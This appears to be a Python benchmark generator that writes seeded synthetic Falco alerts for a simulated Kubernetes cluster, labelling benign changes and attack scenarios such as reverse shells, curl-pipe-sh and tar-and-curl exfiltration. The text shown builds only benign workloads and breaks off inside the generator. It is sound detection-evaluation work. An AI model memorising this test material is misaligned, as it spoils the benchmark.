"""A second, independent generator of Falco streams for evaluating the analyzer (bench only).

Written from how Falco reports things, not from ``runtime/simulate``: every line is a Falco
JSON alert (``output``, ``priority``, ``rule``, ``time``, ``output_fields``, ``tags``,
``hostname``, ``source``) as Falco 0.3x prints it with ``json_output: true``, mostly from the
telemetry rules in ``deploy/falco/kubesentinel-telemetry.yaml`` (their output fields, their
priorities), plus the stock rules that fire on ordinary clusters (Terminal shell in container,
Launch Package Management Process in Container, Drop and execute new binary in container,
Clear Log Activities) and k8s_audit ``Attach/Exec Pod``. Pods are named as their controllers
name them (``<deploy>-<template hash>-<5>``, ``<sts>-<n>``, ``<cronjob>-<unix minutes>-<5>``),
so the monitor's enricher maps them to workloads without owner look-ups.

The cluster: 28 workloads (web servers, JVM services, databases, Kafka, cron jobs of which
two run daily, CI build pods that exec a long tail of programs, service-mesh sidecars, init
containers, node agents, a dev namespace with ``kubectl exec`` sessions) over 48 h with a
diurnal load. Benign change is labelled by category (``BENIGN``), attacks by scenario
(``SCENARIOS``); everything is seeded.

    python bench/ai_streams.py --seed 1 --out /tmp/hard.jsonl   # writes the stream
"""

# ruff: noqa: E501, PLR0917, PLR0912, RUF015, S311 - a scenario script: long literal event lines, emitters with many positional fields, seeded (not cryptographic) randomness

from __future__ import annotations

import argparse
import json
import math
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any

NS = 1_000_000_000
MIN = 60 * NS
HOUR = 3600 * NS
START_NS = 1_764_547_200 * NS  # 2025-12-01T00:00:00Z
K8S_ALPHABET = "bcdfghjklmnpqrstvwxz2456789"
HASH_ALPHABET = "456789bcdf"
APISERVER = ("10.96.0.1", 443)

BENIGN = (
    "rollout",
    "scale-up",
    "node-replacement",
    "log-rotation",
    "temp-names",
    "new-service",
    "saas-ip-churn",
    "dev-exec",
    "daily-job",
    "new-workload",
    "ci-long-tail",
)
SCENARIOS = (
    "revshell-python",
    "revshell-bash",
    "miner-renamed",
    "token-apiserver",
    "cloud-metadata",
    "curl-pipe-sh",
    "lateral-scan",
    "exfil-tar-curl",
    "slow-weak-signals",
    "privilege-step",
    "new-workload-attack",
    "attack-during-rollout",
)


@dataclass
class Node:
    hostname: str
    ip: str


@dataclass
class Pod:
    namespace: str
    name: str
    image: str
    tag: str
    ip: str
    node: Node
    container_id: str
    start_ns: int
    end_ns: int = 2**62


@dataclass
class Record:
    time_ns: int
    alert: dict[str, Any]
    scenario: str | None = None
    benign: str | None = None


@dataclass
class Stream:
    seed: int
    hours: float
    cluster: str
    train_end_ns: int
    records: list[Record]
    scenario_start: dict[str, int] = field(default_factory=dict)
    scenario_workload: dict[str, str] = field(default_factory=dict)

    def lines(self) -> Iterator[str]:
        for r in self.records:
            yield json.dumps(r.alert, separators=(",", ":"))


def _stamp(t: int) -> tuple[str, str]:
    secs, frac = divmod(t, NS)
    h, rem = divmod(secs % 86400, 3600)
    day = (secs - START_NS // NS) // 86400 + 1
    clock = f"{h:02d}:{rem // 60:02d}:{rem % 60:02d}.{frac:09d}"
    return clock, f"2025-12-{day:02d}T{clock}Z"


_PRIORITY = {
    "DEBUG": "Debug",
    "INFO": "Informational",
    "NOTICE": "Notice",
    "WARNING": "Warning",
    "ERROR": "Error",
    "CRITICAL": "Critical",
}


class Gen:
    """The cluster's state and the emitters of each Falco rule's alert."""

    def __init__(self, seed: int, hours: float) -> None:
        self.rng = random.Random(seed)
        self.hours = hours
        self.end_ns = START_NS + int(hours * HOUR)
        self.records: list[Record] = []
        self.nodes = [
            Node(f"ip-10-0-{i}-{self.rng.randint(10, 250)}.ec2.internal", f"10.0.{i}.{10 + i}")
            for i in range(1, 6)
        ]
        self._pod_ips = 0
        self.services: dict[str, tuple[str, int]] = {}
        self.scenario_start: dict[str, int] = {}
        self.scenario_workload: dict[str, str] = {}
        self.context: str | None = None  # the benign change under way, for start-up events
        self.jobs: list[Callable[[], None]] = []

    # -- names -----------------------------------------------------------------------------
    def rand(self, n: int, alphabet: str = K8S_ALPHABET) -> str:
        return "".join(self.rng.choice(alphabet) for _ in range(n))

    def pod_ip(self, node: Node) -> str:
        self._pod_ips += 1
        idx = self.nodes.index(node) if node in self.nodes else 9
        return f"10.244.{idx * 16 + self._pod_ips // 250}.{self._pod_ips % 250 + 2}"

    def service(self, name: str, port: int) -> tuple[str, int]:
        if name not in self.services:
            n = len(self.services) + 10
            self.services[name] = (f"10.96.{n // 200}.{n % 200 + 10}", port)
        return self.services[name]

    def pod(
        self, namespace: str, name: str, image: str, tag: str, start: int, node: Node | None = None
    ) -> Pod:
        node = node or self.rng.choice(self.nodes)
        return Pod(
            namespace, name, image, tag, self.pod_ip(node), node, self.rand(12, "0123456789abcdef"),
            start,
        )  # fmt: skip

    # -- emitters --------------------------------------------------------------------------
    def emit(
        self,
        t: int,
        pod: Pod | None,
        rule: str,
        priority: str,
        text: str,
        fields: dict[str, Any],
        tags: list[str],
        label: tuple[str | None, str | None],
        source: str = "syscall",
        hostname: str | None = None,
    ) -> None:
        clock, iso = _stamp(t)
        of: dict[str, Any] = {"evt.time": t, **fields}
        if pod is not None:
            of.update(
                {
                    "container.id": pod.container_id,
                    "container.image.repository": pod.image,
                    "container.image.tag": pod.tag,
                    "k8s.ns.name": pod.namespace,
                    "k8s.pod.name": pod.name,
                }
            )
        alert = {
            "hostname": hostname or (pod.node.hostname if pod else self.nodes[0].hostname),
            "output": f"{clock}: {_PRIORITY[priority]} {text}",
            "output_fields": of,
            "priority": _PRIORITY[priority],
            "rule": rule,
            "source": source,
            "tags": tags,
            "time": iso,
        }
        if label == (None, None) and self.context:
            label = (None, self.context)
        self.records.append(Record(t, alert, label[0], label[1]))

    def spawn(
        self,
        t: int,
        pod: Pod,
        proc: str,
        exe: str,
        parent: str,
        gparent: str,
        cmdline: str = "",
        user: str = "root",
        label: tuple[str | None, str | None] = (None, None),
    ) -> None:
        pid = self.rng.randint(7, 60000)
        fields = {
            "evt.type": "execve",
            "user.name": user,
            "user.uid": 0 if user == "root" else 1000,
            "proc.name": proc,
            "proc.exepath": exe,
            "proc.pid": pid,
            "proc.pname": parent,
            "proc.pexepath": f"/usr/bin/{parent}",
            "proc.aname[2]": gparent,
            "proc.cmdline": cmdline or proc,
        }
        text = (
            f"KubeSentinel telemetry: process spawned (evt_type=execve user={user} "
            f"process={proc} proc_exepath={exe} pid={pid} parent={parent} gparent={gparent} "
            f"command={cmdline or proc} container_id={pod.container_id} image={pod.image} "
            f"k8s_ns={pod.namespace} k8s_pod={pod.name})"
        )
        tags = ["telemetry", "kubesentinel", "container", "process"]
        self.emit(t, pod, "KubeSentinel Process Spawned", "INFO", text, fields, tags, label)

    def connect(
        self,
        t: int,
        pod: Pod,
        proc: str,
        exe: str,
        parent: str,
        gparent: str,
        sip: str,
        sport: int,
        user: str = "root",
        label: tuple[str | None, str | None] = (None, None),
        inbound_from: str | None = None,
    ) -> None:
        cport = self.rng.randint(32768, 60999)
        if inbound_from is None:
            name, etype, rule, prio = (
                f"{pod.ip}:{cport}->{sip}:{sport}",
                "connect",
                "Outbound",
                "INFO",
            )
            rip, rport = sip, sport
        else:
            name, etype, rule, prio = (
                f"{inbound_from}:{cport}->{pod.ip}:{sport}",
                "accept4",
                "Inbound",
                "DEBUG",
            )
            rip, rport, sip = inbound_from, cport, pod.ip
        fields = {
            "evt.type": etype,
            "user.name": user,
            "proc.name": proc,
            "proc.exepath": exe,
            "proc.pid": self.rng.randint(7, 60000),
            "proc.pname": parent,
            "proc.aname[2]": gparent,
            "fd.name": name,
            "fd.l4proto": "tcp",
            "fd.sip": sip,
            "fd.sport": sport,
            "fd.rip": rip,
            "fd.rport": rport,
        }
        text = (
            f"KubeSentinel telemetry: {rule.lower()} connection (evt_type={etype} user={user} "
            f"process={proc} connection={name} k8s_ns={pod.namespace} k8s_pod={pod.name})"
        )
        tags = ["telemetry", "kubesentinel", "container", "network"]
        self.emit(t, pod, f"KubeSentinel {rule} Connection", prio, text, fields, tags, label)

    def opened(
        self,
        t: int,
        pod: Pod,
        proc: str,
        exe: str,
        parent: str,
        gparent: str,
        path: str,
        write: bool = False,
        user: str = "root",
        label: tuple[str | None, str | None] = (None, None),
    ) -> None:
        fields = {
            "evt.type": "openat",
            "user.name": user,
            "user.uid": 0 if user == "root" else 1000,
            "proc.name": proc,
            "proc.exepath": exe,
            "proc.pid": self.rng.randint(7, 60000),
            "proc.pname": parent,
            "proc.aname[2]": gparent,
            "fd.name": path,
            "evt.arg.flags": "O_WRONLY|O_CREAT|O_TRUNC" if write else "O_RDONLY|O_CLOEXEC",
        }
        what = "write below system directory" if write else "sensitive file opened"
        text = f"KubeSentinel telemetry: {what} (evt_type=openat user={user} process={proc} file={path})"
        rule = (
            "KubeSentinel Write Below System Directory"
            if write
            else "KubeSentinel Sensitive File Opened"
        )
        tags = ["telemetry", "kubesentinel", "container", "filesystem"]
        self.emit(t, pod, rule, "DEBUG" if write else "INFO", text, fields, tags, label)

    def stock(
        self,
        t: int,
        pod: Pod,
        rule: str,
        priority: str,
        text: str,
        fields: dict[str, Any],
        tags: list[str],
        label: tuple[str | None, str | None] = (None, None),
    ) -> None:
        self.emit(t, pod, rule, priority, text, fields, tags, label)

    def audit_exec(
        self, t: int, pod: Pod, user: str, command: str, label: tuple[str | None, str | None]
    ) -> None:
        fields = {
            "ka.target.name": pod.name,
            "ka.target.namespace": pod.namespace,
            "ka.target.resource": "pods",
            "ka.target.subresource": "exec",
            "ka.uri.param[command]": command,
            "ka.user.name": user,
        }
        text = (
            f"Attach/Exec to pod (user={user} pod={pod.name} resource=pods ns={pod.namespace} "
            f"action=exec command={command})"
        )
        self.emit(
            t, None, "Attach/Exec Pod", "NOTICE", text, fields, ["k8s"], label, source="k8s_audit",
            hostname="falco-k8saudit-6d9f7c8b5-x2k9p",
        )  # fmt: skip


def diurnal(t: int) -> float:
    """Load factor: low at night, peak at 14:00 UTC, weekends ignored."""
    hour = (t - START_NS) / HOUR % 24
    return 0.25 + 0.75 * (0.5 + 0.5 * math.cos((hour - 14) / 24 * 2 * math.pi)) ** 2


def poisson(rng: random.Random, lam: float) -> int:
    if lam <= 0:
        return 0
    if lam > 30:
        return max(0, int(rng.gauss(lam, math.sqrt(lam)) + 0.5))
    limit, k, p = math.exp(-lam), 0, 1.0
    while True:
        p *= rng.random()
        if p <= limit:
            return k
        k += 1


def every_minute(
    g: Gen, pods: Callable[[int], list[Pod]], rate: float, fn: Callable[[int, Pod], None],
    start: int = START_NS, end: int | None = None, load: bool = True,
) -> None:  # fmt: skip
    """``fn(t, pod)`` about ``rate`` times a minute per pod (times the diurnal load); run at
    the end, once every pod (rollouts, scale-ups, replacements) exists."""
    g.jobs.append(lambda: _every_minute(g, pods, rate, fn, start, end or g.end_ns, load))


def _every_minute(
    g: Gen, pods: Callable[[int], list[Pod]], rate: float, fn: Callable[[int, Pod], None],
    start: int, end: int, load: bool,
) -> None:  # fmt: skip
    for m in range(start, end, MIN):
        live = pods(m)
        if not live:
            continue
        factor = diurnal(m) if load else 1.0
        for p in live:
            for _ in range(poisson(g.rng, rate * factor)):
                fn(m + g.rng.randrange(MIN), p)


def generate(seed: int, hours: float = 48.0) -> Stream:  # noqa: PLR0915 - a scenario script
    g = Gen(seed, hours)
    rng = g.rng
    day = 24 * HOUR
    train_end = START_NS + 22 * HOUR
    N = (None, None)

    def at(h: float) -> int:
        return START_NS + int(h * HOUR) + rng.randrange(5 * MIN)

    # -- services ---------------------------------------------------------------------------
    pg = g.service("postgres", 5432)
    redis = g.service("redis", 6379)
    api_svc = g.service("api", 8000)
    fe_svc = g.service("frontend", 3000)
    es_svc = g.service("elasticsearch", 9200)
    istiod = g.service("istiod", 15012)
    rabbit = g.service("rabbitmq", 5672)
    fraud = g.service("fraud-check", 9090)
    g.service("search", 9200)  # services nobody in the stream calls: address space taken
    g.service("notifications", 8080)
    stripe_pool = [f"54.187.{rng.randint(0, 255)}.{rng.randint(1, 254)}" for _ in range(6)]
    stripe_later = [f"54.187.{rng.randint(0, 255)}.{rng.randint(1, 254)}" for _ in range(6)]
    s3_pool = [f"52.216.{rng.randint(0, 255)}.{rng.randint(1, 254)}" for _ in range(40)]
    cdn_pool = [f"151.101.{rng.randint(0, 255)}.{rng.randint(1, 254)}" for _ in range(10)]
    gh_pool = ["140.82.112.3", "140.82.112.4", "140.82.113.3", "140.82.114.4"]
    pkg_pool = [f"151.101.{rng.randint(0, 255)}.{rng.randint(1, 254)}" for _ in range(20)]
    hf_pool = [f"18.164.{rng.randint(0, 255)}.{rng.randint(1, 254)}" for _ in range(5)]

    def chosen(pool: list[str]) -> str:
        return rng.choice(pool)

    # -- deployments: replica sets over time ------------------------------------------------
    @dataclass
    class Deploy:
        ns: str
        name: str
        image: str
        replicas: int
        tag: str
        pods: list[Pod] = field(default_factory=list)
        init: Callable[[int, Pod], None] | None = None
        main: Callable[[int, Pod], None] | None = None

        def roll(self, t: int, tag: str | None = None, replicas: int | None = None,
                 benign: str | None = None) -> list[Pod]:  # fmt: skip
            old = [p for p in self.pods if p.end_ns > t]
            self.tag = tag or self.tag
            n = replicas or self.replicas
            fresh = []
            if tag or not old:
                h = g.rand(rng.randint(8, 10), HASH_ALPHABET)
                for p in old:
                    p.end_ns = t + rng.randrange(2 * MIN, 6 * MIN)
                for i in range(n):
                    fresh.append(self.new_pod(t + i * 20 * NS, h, benign))
            else:  # scale: same template hash
                h = old[0].name.rsplit("-", 2)[1]
                for i in range(n - len(old)):
                    fresh.append(self.new_pod(t + i * 15 * NS, h, benign))
            self.replicas = n
            return fresh

        def new_pod(self, t: int, h: str, benign: str | None) -> Pod:
            p = g.pod(self.ns, f"{self.name}-{h}-{g.rand(5)}", self.image, self.tag, t)
            self.pods.append(p)
            g.context = benign
            if self.init:
                self.init(t, p)
            if self.main:
                self.main(t + 3 * NS, p)
            g.context = None
            return p

        def live(self, t: int) -> list[Pod]:
            return [p for p in self.pods if p.start_ns <= t < p.end_ns]

    def statefulset(ns: str, name: str, image: str, tag: str, n: int) -> list[Pod]:
        return [g.pod(ns, f"{name}-{i}", image, tag, START_NS - day) for i in range(n)]

    def daemonset(ns: str, name: str, image: str, tag: str) -> list[Pod]:
        return [
            g.pod(ns, f"{name}-{g.rand(5)}", image, tag, START_NS - day, node) for node in g.nodes
        ]

    # === web-nginx: nginx master and workers behind an ingress ===============================
    ingress = daemonset(
        "ingress-nginx",
        "ingress-nginx-controller",
        "registry.k8s.io/ingress-nginx/controller",
        "v1.9.4",
    )

    def web_init(t: int, p: Pod) -> None:
        g.spawn(t, p, "sh", "/bin/busybox", "containerd-shim", "systemd", "sh -c /render.sh")
        g.spawn(
            t + NS,
            p,
            "sed",
            "/bin/busybox",
            "sh",
            "containerd-shim",
            "sed -i s/X/Y/ /etc/nginx/conf.d/default.conf",
        )
        g.opened(t + NS, p, "sed", "/bin/busybox", "sh", "containerd-shim",
                 f"/etc/nginx/conf.d/sed{g.rand(6, 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789')}", write=True)  # fmt: skip

    def web_main(t: int, p: Pod) -> None:
        g.spawn(
            t, p, "nginx", "/usr/sbin/nginx", "containerd-shim", "systemd", "nginx -g daemon off;"
        )
        for w in range(2):
            g.spawn(
                t + NS + w,
                p,
                "nginx",
                "/usr/sbin/nginx",
                "nginx",
                "containerd-shim",
                "nginx: worker process",
            )

    web = Deploy(
        "shop", "web", "docker.io/library/nginx", 3, "1.25.3", init=web_init, main=web_main
    )
    web.roll(START_NS - day)
    every_minute(g, web.live, 14, lambda t, p: g.connect(
        t, p, "nginx", "/usr/sbin/nginx", "nginx", "containerd-shim", "", 8080,
        user="nginx", inbound_from=chosen(ingress).ip))  # fmt: skip
    every_minute(g, web.live, 8, lambda t, p: g.connect(
        t, p, "nginx", "/usr/sbin/nginx", "nginx", "containerd-shim", *fe_svc, user="nginx"))  # fmt: skip
    every_minute(g, lambda t: ingress, 6, lambda t, p: g.connect(
        t, p, "nginx", "/usr/bin/nginx", "nginx-ingress-c", "dumb-init", *g.service("web", 8080), user="www-data"))  # fmt: skip
    every_minute(g, lambda t: ingress, 0.5, lambda t, p: g.connect(
        t, p, "nginx-ingress-c", "/nginx-ingress-controller", "dumb-init", "containerd-shim", *APISERVER, user="www-data"))  # fmt: skip

    # === frontend: node.js, scaled up in the afternoon of day 2 ==============================
    def fe_main(t: int, p: Pod) -> None:
        g.spawn(t, p, "sh", "/bin/sh", "containerd-shim", "systemd", "sh -c node server.js")
        g.spawn(
            t + NS,
            p,
            "node",
            "/usr/local/bin/node",
            "sh",
            "containerd-shim",
            "node server.js",
            user="node",
        )

    frontend = Deploy("shop", "frontend", "ghcr.io/acme/frontend", 3, "2.14.0", main=fe_main)
    frontend.roll(START_NS - day)
    every_minute(g, frontend.live, 6, lambda t, p: g.connect(
        t, p, "node", "/usr/local/bin/node", "sh", "containerd-shim", *api_svc, user="node"))  # fmt: skip
    every_minute(g, frontend.live, 0.6, lambda t, p: g.connect(
        t, p, "node", "/usr/local/bin/node", "sh", "containerd-shim", chosen(cdn_pool), 443, user="node"))  # fmt: skip
    every_minute(g, frontend.live, 3, lambda t, p: g.connect(
        t, p, "node", "/usr/local/bin/node", "sh", "containerd-shim", "", 3000, user="node",
        inbound_from=chosen(web.live(t) or web.pods).ip))  # fmt: skip

    # === api: gunicorn, istio sidecar, init migration; rolled out on day 2 ===================
    def api_init(t: int, p: Pod) -> None:
        g.spawn(
            t, p, "sh", "/bin/sh", "containerd-shim", "systemd", "sh -c python3 manage.py migrate"
        )
        g.spawn(
            t + NS,
            p,
            "python3",
            "/usr/local/bin/python3.11",
            "sh",
            "containerd-shim",
            "python3 manage.py migrate",
            user="app",
        )
        g.connect(
            t + 2 * NS,
            p,
            "python3",
            "/usr/local/bin/python3.11",
            "sh",
            "containerd-shim",
            *pg,
            user="app",
        )

    def api_main(t: int, p: Pod) -> None:
        g.spawn(
            t + 5 * NS,
            p,
            "pilot-agent",
            "/usr/local/bin/pilot-agent",
            "containerd-shim",
            "systemd",
            "pilot-agent proxy sidecar",
            user="istio-proxy",
        )
        g.spawn(
            t + 6 * NS,
            p,
            "envoy",
            "/usr/local/bin/envoy",
            "pilot-agent",
            "containerd-shim",
            "envoy -c etc/istio/proxy/envoy-rev.json",
            user="istio-proxy",
        )
        g.spawn(
            t + 8 * NS,
            p,
            "gunicorn",
            "/usr/local/bin/python3.11",
            "containerd-shim",
            "systemd",
            "gunicorn app:app -w 4",
            user="app",
        )
        for w in range(4):
            g.spawn(
                t + 9 * NS + w,
                p,
                "gunicorn",
                "/usr/local/bin/python3.11",
                "gunicorn",
                "containerd-shim",
                "gunicorn app:app -w 4",
                user="app",
            )
        if p.tag >= "3.9.0":  # the new release runs a celery worker beside gunicorn
            g.spawn(
                t + 10 * NS,
                p,
                "sh",
                "/bin/sh",
                "containerd-shim",
                "systemd",
                "sh -c celery -A app worker",
                user="app",
                label=(None, "rollout"),
            )
            g.spawn(
                t + 11 * NS,
                p,
                "celery",
                "/usr/local/bin/python3.11",
                "sh",
                "containerd-shim",
                "celery -A app worker",
                user="app",
                label=(None, "rollout"),
            )

    api = Deploy("shop", "api", "ghcr.io/acme/api", 3, "3.8.2", init=api_init, main=api_main)
    api.roll(START_NS - day)
    gun = ("gunicorn", "/usr/local/bin/python3.11", "gunicorn", "containerd-shim")
    every_minute(g, api.live, 4, lambda t, p: g.connect(t, p, *gun, *pg, user="app"))
    every_minute(g, api.live, 5, lambda t, p: g.connect(t, p, *gun, *redis, user="app"))
    every_minute(g, api.live, 0.8, lambda t, p: g.connect(
        t, p, *gun, chosen(stripe_pool if t < START_NS + 26 * HOUR else stripe_later), 443,
        user="app", label=(None, "saas-ip-churn" if t >= START_NS + 26 * HOUR else None)))  # fmt: skip
    every_minute(g, api.live, 6, lambda t, p: g.connect(
        t, p, "envoy", "/usr/local/bin/envoy", "pilot-agent", "containerd-shim", "", 8000,
        user="istio-proxy", inbound_from=chosen(frontend.live(t) or frontend.pods).ip))  # fmt: skip
    every_minute(g, api.live, 0.2, lambda t, p: g.connect(
        t, p, "pilot-agent", "/usr/local/bin/pilot-agent", "containerd-shim", "systemd", *istiod, user="istio-proxy"))  # fmt: skip
    every_minute(g, api.live, 1, lambda t, p: g.spawn(
        t, p, "python3", "/usr/local/bin/python3.11", "runc", "containerd-shim", "python3 /app/healthcheck.py", user="app"), load=False)  # fmt: skip
    every_minute(g, api.live, 0.05, lambda t, p: g.spawn(
        t, p, "gunicorn", "/usr/local/bin/python3.11", "gunicorn", "containerd-shim", "gunicorn app:app -w 4", user="app"))  # fmt: skip
    every_minute(g, lambda t: [p for p in api.live(t) if p.tag >= "3.9.0"], 3, lambda t, p: g.connect(
        t, p, "celery", "/usr/local/bin/python3.11", "sh", "containerd-shim", *rabbit, user="app",
        label=(None, "rollout")))  # fmt: skip

    # === checkout: a JVM started by a bash entrypoint; starts calling fraud-check on day 2 ===
    def co_main(t: int, p: Pod) -> None:
        g.spawn(t, p, "bash", "/usr/bin/bash", "containerd-shim", "systemd", "bash /entrypoint.sh")
        g.spawn(
            t + NS,
            p,
            "java",
            "/opt/java/openjdk/bin/java",
            "bash",
            "containerd-shim",
            "java -jar /app/checkout.jar",
            user="app",
        )

    checkout = Deploy("shop", "checkout", "ghcr.io/acme/checkout", 2, "1.22.5", main=co_main)
    checkout.roll(START_NS - day)
    kafka = statefulset("data", "kafka", "docker.io/bitnami/kafka", "3.6.0", 3)
    jv = ("java", "/opt/java/openjdk/bin/java", "bash", "containerd-shim")
    every_minute(
        g, checkout.live, 4, lambda t, p: g.connect(t, p, *jv, chosen(kafka).ip, 9092, user="app")
    )
    every_minute(g, checkout.live, 2, lambda t, p: g.connect(t, p, *jv, *pg, user="app"))
    every_minute(
        g,
        checkout.live,
        0.3,
        lambda t, p: g.connect(t, p, *jv, chosen(s3_pool[:8]), 443, user="app"),
    )
    every_minute(g, checkout.live, 3, lambda t, p: g.connect(
        t, p, *jv, "", 8080, user="app", inbound_from=chosen(api.live(t) or api.pods).ip))  # fmt: skip
    every_minute(g, checkout.live, 2, lambda t, p: g.connect(
        t, p, *jv, *fraud, user="app", label=(None, "new-service")), start=START_NS + 32 * HOUR)  # fmt: skip

    # === search: an Elasticsearch-like JVM cluster ===========================================
    search = statefulset(
        "shop", "search", "docker.elastic.co/elasticsearch/elasticsearch", "8.11.1", 3
    )
    sj = ("java", "/usr/share/elasticsearch/jdk/bin/java", "tini", "containerd-shim")
    every_minute(
        g,
        lambda t: search,
        3,
        lambda t, p: g.connect(t, p, *sj, chosen(search).ip, 9300, user="elasticsearch"),
    )
    every_minute(g, lambda t: search, 4, lambda t, p: g.connect(
        t, p, *sj, "", 9200, user="elasticsearch", inbound_from=chosen(api.live(t) or api.pods).ip))  # fmt: skip
    every_minute(g, lambda t: search, 0.03, lambda t, p: g.spawn(
        t, p, "controller", "/usr/share/elasticsearch/modules/x-pack-ml/platform/linux-x86_64/bin/controller",
        "java", "tini", user="elasticsearch"))  # fmt: skip

    # === postgres: WAL archiving (sh, cp), hourly base-backup upload (tar, curl) ============
    postgres = statefulset("shop", "postgres", "docker.io/library/postgres", "16.1", 1)
    every_minute(g, lambda t: postgres, 8, lambda t, p: g.connect(
        t, p, "postgres", "/usr/lib/postgresql/16/bin/postgres", "postgres", "containerd-shim", "", 5432,
        user="postgres", inbound_from=chosen((api.live(t) or api.pods) + checkout.pods).ip))  # fmt: skip

    def archive(t: int, p: Pod) -> None:
        seg = g.rand(24, "0123456789ABCDEF")
        g.spawn(
            t,
            p,
            "sh",
            "/bin/sh",
            "postgres",
            "postgres",
            f"sh -c cp pg_wal/{seg} /archive/{seg}",
            user="postgres",
        )
        g.spawn(
            t + NS // 10,
            p,
            "cp",
            "/bin/cp",
            "sh",
            "postgres",
            f"cp pg_wal/{seg} /archive/{seg}",
            user="postgres",
        )

    every_minute(g, lambda t: postgres, 0.12, archive)

    def upload(
        t: int, p: Pod, label: tuple[str | None, str | None] = N, ip: str | None = None
    ) -> None:
        g.spawn(
            t,
            p,
            "sh",
            "/bin/sh",
            "crond",
            "containerd-shim",
            "sh /scripts/basebackup.sh",
            user="postgres",
            label=label,
        )
        g.spawn(
            t + NS,
            p,
            "tar",
            "/bin/tar",
            "sh",
            "crond",
            "tar czf /tmp/base.tgz /var/lib/postgresql/data",
            user="postgres",
            label=label,
        )
        g.spawn(
            t + 40 * NS,
            p,
            "curl",
            "/usr/bin/curl",
            "sh",
            "crond",
            "curl -sT /tmp/base.tgz https://backups.s3.amazonaws.com/",
            user="postgres",
            label=label,
        )
        g.connect(
            t + 41 * NS,
            p,
            "curl",
            "/usr/bin/curl",
            "sh",
            "crond",
            ip or chosen(s3_pool),
            443,
            user="postgres",
            label=label,
        )

    for h in range(int(hours)):
        upload(START_NS + h * HOUR + 17 * MIN + rng.randrange(MIN), postgres[0])

    def logrotate(t: int, p: Pod) -> None:
        lab = (None, "log-rotation")
        g.spawn(
            t,
            p,
            "logrotate",
            "/usr/sbin/logrotate",
            "crond",
            "containerd-shim",
            "logrotate /etc/logrotate.conf",
            label=lab,
        )
        for i in (1, 2):
            g.spawn(
                t + i * NS,
                p,
                "gzip",
                "/bin/gzip",
                "logrotate",
                "crond",
                f"gzip /var/log/postgresql/postgresql.log.{i}",
                label=lab,
            )
        g.stock(t + 3 * NS, p, "Clear Log Activities", "WARNING",
                "Log files were tampered (file=/var/log/postgresql/postgresql.log)",
                {"evt.type": "openat", "proc.name": "logrotate", "proc.pname": "crond", "proc.aname[2]": "containerd-shim",
                 "proc.exepath": "/usr/sbin/logrotate", "user.name": "root",
                 "fd.name": f"/var/log/postgresql/postgresql.log.{rng.randint(1, 3)}", "evt.arg.flags": "O_WRONLY|O_TRUNC"},
                ["maturity_stable", "host", "container", "filesystem", "mitre_defense_evasion", "T1070"], lab)  # fmt: skip

    for d in range(int(hours // 24) + 1):
        t = START_NS + d * day + 3 * HOUR + 10 * MIN
        if t < g.end_ns:
            logrotate(t, postgres[0])

    redis_pods = statefulset("shop", "redis", "docker.io/library/redis", "7.2.3", 1)
    every_minute(g, lambda t: redis_pods, 6, lambda t, p: g.connect(
        t, p, "redis-server", "/usr/local/bin/redis-server", "containerd-shim", "systemd", "", 6379,
        user="redis", inbound_from=chosen(api.live(t) or api.pods).ip))  # fmt: skip
    every_minute(g, lambda t: kafka, 3, lambda t, p: g.connect(
        t, p, "java", "/opt/bitnami/java/bin/java", "bash", "containerd-shim", chosen(kafka).ip, 9093, user="1001"))  # fmt: skip

    # === cron jobs: every 15 min, and two daily ones (seen once in training) =================
    def cron_pod(ns: str, name: str, image: str, tag: str, t: int) -> Pod:
        return g.pod(ns, f"{name}-{t // MIN:08d}-{g.rand(5)}", image, tag, t)

    for m in range(START_NS, g.end_ns, 15 * MIN):
        p = cron_pod("ops", "cleanup", "docker.io/library/busybox", "1.36", m + 2 * NS)
        t = m + 2 * NS
        g.spawn(t, p, "sh", "/bin/sh", "containerd-shim", "systemd", "sh -c /scripts/cleanup.sh")
        g.spawn(t + NS, p, "find", "/bin/find", "sh", "containerd-shim", "find /data/tmp -mtime +1")
        if rng.random() < 0.6:
            g.spawn(t + 2 * NS, p, "rm", "/bin/rm", "sh", "containerd-shim", "rm -f /data/tmp/x")
        g.spawn(t + 3 * NS, p, "date", "/bin/date", "sh", "containerd-shim", "date")

    def nightly_report(t: int) -> None:
        lab = (None, "daily-job") if t >= train_end else N
        p = cron_pod("data", "nightly-report", "ghcr.io/acme/reports", "0.9.1", t)
        g.spawn(
            t,
            p,
            "sh",
            "/bin/sh",
            "containerd-shim",
            "systemd",
            "sh -c python3 report.py",
            label=lab,
        )
        g.spawn(
            t + NS,
            p,
            "python3",
            "/usr/local/bin/python3.11",
            "sh",
            "containerd-shim",
            "python3 report.py",
            user="app",
            label=lab,
        )
        for i in range(rng.randint(3, 6)):
            g.connect(
                t + (2 + i) * NS,
                p,
                "python3",
                "/usr/local/bin/python3.11",
                "sh",
                "containerd-shim",
                *pg,
                user="app",
                label=lab,
            )
        g.connect(
            t + 60 * NS,
            p,
            "python3",
            "/usr/local/bin/python3.11",
            "sh",
            "containerd-shim",
            chosen(s3_pool),
            443,
            user="app",
            label=lab,
        )
        g.opened(
            t + 61 * NS,
            p,
            "python3",
            "/usr/local/bin/python3.11",
            "sh",
            "containerd-shim",
            "/root/.aws/credentials",
            user="app",
            label=lab,
        )

    def db_backup(t: int) -> None:
        lab = (None, "daily-job") if t >= train_end else N
        p = cron_pod("ops", "db-backup", "ghcr.io/acme/pg-backup", "16-2", t)
        g.spawn(t, p, "sh", "/bin/sh", "containerd-shim", "systemd", "sh /backup.sh", label=lab)
        g.spawn(
            t + NS,
            p,
            "pg_dump",
            "/usr/bin/pg_dump",
            "sh",
            "containerd-shim",
            "pg_dump -Fc shop",
            label=lab,
        )
        g.connect(
            t + 2 * NS, p, "pg_dump", "/usr/bin/pg_dump", "sh", "containerd-shim", *pg, label=lab
        )
        g.spawn(
            t + 200 * NS,
            p,
            "gzip",
            "/bin/gzip",
            "sh",
            "containerd-shim",
            "gzip /tmp/shop.dump",
            label=lab,
        )
        g.spawn(
            t + 260 * NS,
            p,
            "aws",
            "/usr/local/bin/aws",
            "sh",
            "containerd-shim",
            "aws s3 cp /tmp/shop.dump.gz s3://acme-backups/",
            label=lab,
        )
        g.opened(
            t + 261 * NS,
            p,
            "aws",
            "/usr/local/bin/aws",
            "sh",
            "containerd-shim",
            "/root/.aws/credentials",
            label=lab,
        )
        for _ in range(3):
            g.connect(
                t + 262 * NS,
                p,
                "aws",
                "/usr/local/bin/aws",
                "sh",
                "containerd-shim",
                chosen(s3_pool),
                443,
                label=lab,
            )

